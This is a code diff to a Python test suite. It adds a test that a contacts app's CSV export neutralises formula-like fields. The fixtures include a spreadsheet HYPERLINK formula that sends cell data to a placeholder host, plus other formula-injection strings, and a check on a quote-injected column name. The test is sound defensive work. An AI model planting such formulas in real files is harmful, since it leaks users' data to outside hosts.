@@ -86,6 +86,23 @@ def test_csv(filled: App, tmp_path: Path) -> None:
     assert (bob["email"], bob["custom: Birthday plan"]) == ("", "")
 
 
+def test_in_csv_no_text_of_a_form_becomes_a_formula(plan: Plan, tmp_path: Path) -> None:
+    texts = {
+        "firstName": '=HYPERLINK("http://x.example/"&A1)',
+        "lastName": " @SUM(1)",
+        "city": "＝1",
+        "address1": "-1+cmd",
+    }
+    numbers = {"phone": "+1 (555) 010-7788", "postalCode": "-5"}
+    records.merge(plan.app_id, LOCATION, "contacts", [{"id": "eve", **texts, **numbers}])
+    settle(1)
+    (path,) = export(plan.app, tmp_path, "csv")
+    with path.open(newline="") as file:
+        (eve,) = csv.DictReader(file)
+    assert {name: eve[name] for name in texts} == {name: f"'{text}" for name, text in texts.items()}
+    assert {name: eve[name] for name in numbers} == numbers, "a number calls nothing, and other programs read it"
+
+
 def test_parquet(filled: App, tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet")
     (path,) = export(filled, tmp_path, "parquet")
@@ -137,5 +154,5 @@ def test_views_are_typed_and_renewed(filled: App) -> None:
     columns = [name for (name,) in rows("SELECT attname FROM pg_attribute WHERE attrelid = 'bi.contacts'::regclass")]
     assert "Birthday plan" not in columns
     assert [name for name in columns if name.startswith('dnd" or')]
-    with pytest.raises(CommandError, match="somebody else"):
+    with pytest.raises(CommandError, match="did not make"):
         call_command("records", "views", "--schema", "public", stdout=output)
